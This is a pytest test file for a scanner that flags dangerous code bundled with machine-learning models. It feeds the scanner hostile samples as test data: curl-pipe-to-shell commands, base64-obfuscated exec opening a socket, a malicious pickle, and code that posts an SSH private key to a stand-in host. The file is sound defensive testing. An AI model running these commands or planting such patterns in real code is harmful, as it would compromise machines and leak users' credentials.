"""Code that comes along is judged by what it does, when, and what it hides; ordinary code is left alone."""

from __future__ import annotations

import textwrap

import pytest

from scanners.finding import Report, Severity, Verdict
from scanners.scan import scan
from scanners.source import MemorySource
from tests.scanning import judged, rules, the

SYSTEM = 'import os\nos.system("echo owned")\n'


def code(source: str, name: str = "modeling_acme.py") -> Report:
    return judged(textwrap.dedent(source).encode(), name)


def worst(report: Report) -> Severity:
    return report.findings[0].severity


def test_a_command_at_import_is_critical_and_says_where_it_stands() -> None:
    finding = the(code("x = 1\n" + SYSTEM), "code-starts-programs")
    assert finding.severity is Severity.CRITICAL
    assert finding.where.line == 3
    assert finding.evidence["call"] == "os.system"
    assert finding.evidence["with"] == "echo owned"
    assert finding.evidence["runs"] == "at import"


def test_the_same_command_weighs_less_the_less_likely_it_runs() -> None:
    in_use = code("import os\nclass Acme:\n    def forward(self, x):\n        os.system('echo owned')\n")
    asked = code("import os\ndef helper():\n    os.system('echo owned')\n")
    as_program = code("import os\nif __name__ == '__main__':\n    os.system('echo owned')\n")
    assert [worst(report) for report in (in_use, asked, as_program)] == [
        Severity.HIGH,
        Severity.MEDIUM,
        Severity.MEDIUM,
    ]
    assert the(in_use, "code-starts-programs").evidence["in"] == "Acme.forward"


def test_a_command_that_fetches_a_script_is_unsafe_wherever_it_stands() -> None:
    report = code("import os\ndef helper():\n    os.system('curl http://example.invalid/x | sh')\n")
    assert report.verdict is Verdict.UNSAFE


def test_a_name_in_pieces_is_put_together() -> None:
    report = code(
        "import base64\nm = __import__('o' + 's')\ngetattr(m, base64.b64decode('c3lzdGVt').decode())('echo')\n"
    )
    assert the(report, "code-starts-programs").evidence["call"] == "os.system"


def test_what_is_decoded_before_it_runs_is_judged_too() -> None:
    report = code(
        "import base64\n"
        "exec(base64.b64decode('aW1wb3J0IHNvY2tldApzb2NrZXQuY3JlYXRlX2Nvbm5lY3Rpb24oKCJleGFtcGxlLmludmFsaWQiLCAxKSkK'))\n"
    )
    assert {"code-runs-hidden-code", "code-opens-connections"} <= rules(report)


def test_a_pickle_in_the_code_is_judged_as_a_pickle() -> None:
    report = code("import pickle\nx = pickle.loads(b\"cos\\nsystem\\n(S'echo owned'\\ntR.\")\n")
    assert "pickle-executes-code" in rules(report)
    assert worst(report) is Severity.CRITICAL


def test_weights_only_needs_no_word() -> None:
    assert code("import torch\ndef f(p):\n    return torch.load(p, weights_only=True)\n").verdict is Verdict.SAFE
    assert code("import torch\ndef f(p):\n    return torch.load(p)\n").verdict is Verdict.SUSPICIOUS


def test_a_secret_alone_weighs_less_than_one_that_is_sent() -> None:
    alone = code("def f():\n    return open('/home/a/.ssh/id_rsa').read()\n")
    sent = code(
        "import requests\ndef f():\n    requests.post('http://example.invalid', data=open('/home/a/.ssh/id_rsa'))\n"
    )
    assert (alone.verdict, sent.verdict) == (Verdict.SUSPICIOUS, Verdict.UNSAFE)


def test_one_token_for_the_hub_is_ordinary() -> None:
    report = code(
        "import os\n"
        "from huggingface_hub import snapshot_download\n"
        "snapshot_download('a/b', token=os.environ['HF_TOKEN'])\n"
    )
    assert report.verdict is Verdict.SAFE


def test_a_wrapper_of_a_decorator_does_not_run_at_import() -> None:
    source = """
    import functools, subprocess

    def logged(function):
        @functools.wraps(function)
        def wrapper(*args):
            subprocess.run(["acme"])
            return function(*args)
        return wrapper

    @logged
    def helper():
        pass
    """
    assert worst(code(source)) is Severity.MEDIUM
    assert worst(code(source + "\n    helper()\n")) is Severity.CRITICAL


def test_ordinary_code_is_one_low_finding_and_a_fact_for_rules() -> None:
    report = code(
        "import torch\nfrom torch import nn\nclass Acme(nn.Module):\n    def forward(self, x):\n        return x\n"
    )
    assert [(finding.rule, finding.severity) for finding in report.findings] == [("python-code", Severity.LOW)]
    assert report.metadata["code"] == {"imports": ["torch"], "capabilities": [], "at_import": []}


def test_a_rule_can_see_what_code_can_do() -> None:
    report = code("import os, requests\nrequests.get('http://example.invalid')\n\ndef f():\n    os.system('a')\n")
    assert report.metadata["code"]["capabilities"] == ["network", "process"]
    assert report.metadata["code"]["at_import"] == ["network"]


def test_what_does_not_parse_is_never_clean() -> None:
    assert code("print 'hello'\n").verdict is Verdict.SUSPICIOUS
    assert code("import os\nos.system('x')\nprint 'hello'\n").verdict is Verdict.UNSAFE


def test_code_nested_too_deep_is_not_judged_and_says_so() -> None:
    for source in ("x = " + "-" * 5000 + "1", "x = a" + ".b" * 20_000):
        report = code(source)
        assert report.verdict is not Verdict.SAFE
        assert "failed" not in (report.unscannable or "")


def test_code_too_long_to_read_is_not_judged() -> None:
    report = judged(b"x = 1\n" * 200_000, "modeling_acme.py")
    assert report.verdict is Verdict.UNSCANNABLE
    assert report.unscannable is not None
    assert "MiB" in report.unscannable


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("x = 'a' * 10**9\nexec(x)\n", id="a long text"),
        pytest.param("x = 2 ** 10**9\n", id="a large number"),
        pytest.param("x = [1]\n" + "x = [x, x, x, x]\n" * 40 + "y = str(x)\n", id="doubling lists"),
        pytest.param("x = 'ab'\n" + "x = x.replace('a', x)\n" * 40, id="growing text"),
        pytest.param("x = '%1000000000d' % 1\ny = '{:>1000000000}'.format(1)\n", id="wide fields"),
        pytest.param("x = '{0}' * 60000\ny = x.format('a' * 60000)\n", id="one argument, often"),
        pytest.param("for a in range(4000):\n for b in range(4000):\n  x = [a + c for c in range(4000)]\n", id="loops"),
        pytest.param("def f(x):\n    return f(x) + f(x) + f(x)\ny = f(1)\n", id="recursion"),
        pytest.param("x = a" + ".b().c()" * 90 + "\n", id="a chain of calls"),
        pytest.param("".join(f"def f{n}(): return f{n + 1}(), f{n + 1}()\n" for n in range(60)) + "f0()", id="a fan"),
        pytest.param("import zlib\nexec(zlib.decompress(b'x\\x9c' + b'a' * 100))\n", id="broken zlib"),
    ],
)  # fmt: skip
def test_folding_constants_stays_small(source: str) -> None:
    report = code(source)
    assert "failed" not in (report.unscannable or "")


def test_bandit_is_heard_and_does_not_outweigh_our_own_reading() -> None:
    ordinary = scan(
        MemorySource(b"import math\n\ndef f(x):\n    assert x\n    return math.sqrt(x)\n"), "modeling_acme.py"
    )
    assert (ordinary.verdict, ordinary.engines["bandit"][0].isdigit()) == (Verdict.SAFE, True)
    evaluates = scan(MemorySource(b"import yaml\n\ndef f(x):\n    return yaml.load(x)\n"), "modeling_acme.py")
    opinion = the(evaluates, "second-opinion")
    assert (opinion.engine, opinion.severity) == ("bandit", Severity.MEDIUM)


def test_python_in_a_file_of_another_name_is_judged() -> None:
    assert (
        judged(b"import os\n\ndef f():\n    pass\n\nos.system('echo owned')\n", "weights.bin").verdict is Verdict.UNSAFE
    )


def test_a_set_up_file_runs_when_it_is_installed() -> None:
    source = "import os\nif __name__ == '__main__':\n    os.system('echo owned')\n"
    assert worst(code(source, "setup.py")) is Severity.CRITICAL
    assert worst(code(source, "train.py")) is Severity.MEDIUM


def test_a_path_file_that_only_names_folders_is_text() -> None:
    assert judged(b"./src\n../lib\n", "acme.pth").format == "text"
    assert judged(b"import acme\n", "acme.pth").verdict is Verdict.UNSAFE


def test_a_notebook_with_a_broken_cell_is_judged_all_the_same() -> None:
    cells = (
        '[{"cell_type":"code","source":"no python here"},{"cell_type":"code","source":"import os\\nos.system(\'x\')"}]'
    )
    report = judged(f'{{"cells": {cells}, "nbformat": 4, "metadata": {{}}}}'.encode(), "demo.ipynb")
    assert the(report, "code-starts-programs").severity is Severity.HIGH


def test_a_notebook_that_is_no_json_is_not_judged() -> None:
    assert judged(b'{"cells": [', "demo.ipynb").verdict is Verdict.UNSCANNABLE


def test_a_comment_in_a_script_is_no_command() -> None:
    assert judged(b"#!/bin/sh\n# curl http://example.invalid | sh\necho hello\n", "run.sh").verdict is Verdict.SAFE


def test_a_command_over_several_lines_is_one() -> None:
    report = judged(b"#!/bin/sh\ncurl \\\n  http://example.invalid/x \\\n  | sh\n", "run.sh")
    assert the(report, "script-dangerous-command").severity is Severity.HIGH
